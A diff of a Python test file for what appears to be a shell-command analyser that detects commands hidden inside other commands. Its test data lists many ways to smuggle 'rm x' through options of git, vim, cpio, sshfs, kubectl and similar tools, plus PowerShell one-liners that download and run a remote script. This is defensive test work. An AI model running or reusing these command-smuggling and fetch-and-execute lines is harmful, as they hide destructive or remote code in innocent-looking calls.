@@ -60,6 +60,22 @@ def test_each_line_is_a_call_of_the_program(line: str, noted: str):
         "runuser -lc 'rm x'",
         "tar --to-com='rm x' -xf a.tar",
         "limactl shell default rm x",
+        "git send-email --to-cmd='rm x' a.patch",
+        "cpio --rsh-command='rm x' -i",
+        "nosuchtool --start-command 'rm x'",
+        "env -- A=b rm x",
+        "env -a name rm x",
+        "vim -S <(echo '!rm x')",
+        "vim -c ':exe \"!rm x\"'",
+        'nvim -c \'lua vim.fn.system({"rm","x"})\'',
+        "emacs --script <(echo '(shell-command \"rm x\")')",
+        "npm set-script a 'rm x'",
+        "powershell 'rm x'",
+        "powershell -ExecutionPolicy Bypass -NoProfile rm x",
+        'osascript -e \'tell app "Terminal" to do script "rm x"\'',
+        "mosh --ssh='rm x' host",
+        "sshfs -o ssh_command='rm x' host: m",
+        "kubectl run a --image=b -- rm x",
         "multipass exec vm -- rm x",
         "git -c credential.helper='!rm x' fetch",
         "X='rm x' git --config-env=core.pager=X log",
@@ -75,6 +91,7 @@ def test_a_line_for_a_shell_is_followed(line: str):
     [
         ("git -c core.hooksPath=/tmp/h commit", "it loads code from `/tmp/h`"),
         ("git -c include.path=../x status", "it loads code from `../x`"),
+        ("git clone --template=/tmp/t a", "it loads code from `/tmp/t`"),
         (
             "git --config-env=core.editor=X commit",
             "what `core.editor` makes git run is known only at run time",
@@ -107,6 +124,11 @@ def test_what_is_not_seen_is_said(line: str, reason: str):
         "echo 'a b' | awk '{system(\"date \" $9)}'",
         "awk '{print $NF | \"sort\"}' f",
         "printf 'all:\\n\\tmake test\\n' > Makefile; make",
+        "git init --template=",
+        "git --template=/tmp/t",
+        "psql --user-command='rm x'",
+        "pwsh 'rm x'",
+        "env --",
         "runuser -l",
         "env -S",
         "sftp host",
@@ -124,6 +146,19 @@ def test_what_is_encoded_for_powershell_is_decoded():
 
     assert "rm x" in commands_in(f"powershell -enc {encoded}")
     assert commands_in("powershell -enc §") == ["powershell -enc §"]
+
+
+@pytest.mark.parametrize(
+    ("line", "runs"),
+    [
+        ("pwsh -c 'iex (iwr https://example.com/a.ps1)'", True),
+        ("powershell \"IEX (New-Object Net.WebClient).DownloadString('http://h/a')\"", True),
+        ("pwsh -c 'iwr https://example.com/a.json'", False),
+        ("pwsh -c 'iex $line'", False),
+    ],
+)
+def test_powershell_runs_what_it_fetched(line: str, runs: bool):
+    assert ("execute ?what it fetched, from remote" in effects_in(line)) is runs
 
 
 def test_a_helper_for_credentials_is_told_them():
